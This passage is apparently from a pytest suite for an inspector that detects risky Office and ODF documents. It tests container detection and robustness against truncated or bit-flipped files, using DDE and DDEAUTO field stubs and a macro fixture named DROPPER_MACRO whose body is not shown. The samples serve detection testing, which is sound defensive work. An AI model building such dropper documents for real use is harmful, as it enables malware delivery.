    assert codes(inspect_bytes(tmp_path, docx(field(" DDE x")))) == {"office_too_complex"}


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        pytest.param(docx, True, id="ooxml"),
        pytest.param(odt, True, id="odf"),
        pytest.param(lambda: odt(mimetype=b"application/zip"), False, id="zip-with-other-mimetype"),
        pytest.param(lambda: package({"a.txt": "a"}), False, id="plain-zip"),
        pytest.param(legacy_doc, False, id="ole"),
        pytest.param(lambda: b"PK\x03\x04 broken", False, id="broken-zip"),
        pytest.param(lambda: b"", False, id="empty"),
    ],
)
def test_is_office_container(tmp_path: Path, build: Callable[[], bytes], expected: bool) -> None:
    path = tmp_path / "sample"
    path.write_bytes(build())
    assert is_office_container(str(path)) is expected


def test_damaged_documents_never_raise(tmp_path: Path) -> None:
    sources = [
        docx(field(" DDEAUTO x"), extra={"word/vbaProject.bin": vba_project_bin(DROPPER_MACRO)}),
        legacy_doc(**vba_project(DROPPER_MACRO)),
        odt(extra={"Basic/Standard/Module1.xml": ODF_MODULE}),
    ]
    for source_number, data in enumerate(sources):
        step = max(1, len(data) // 12)
        variants = [data[:cut] for cut in range(8, len(data), step)]
        for index in range(8, len(data), step):
            flipped = bytearray(data)
            flipped[index] ^= 0xFF
            variants.append(bytes(flipped))
        for number, variant in enumerate(variants):
            directory = tmp_path / f"{source_number}-{number}"
            directory.mkdir()
            assert isinstance(inspect_bytes(directory, variant), InspectorReport)
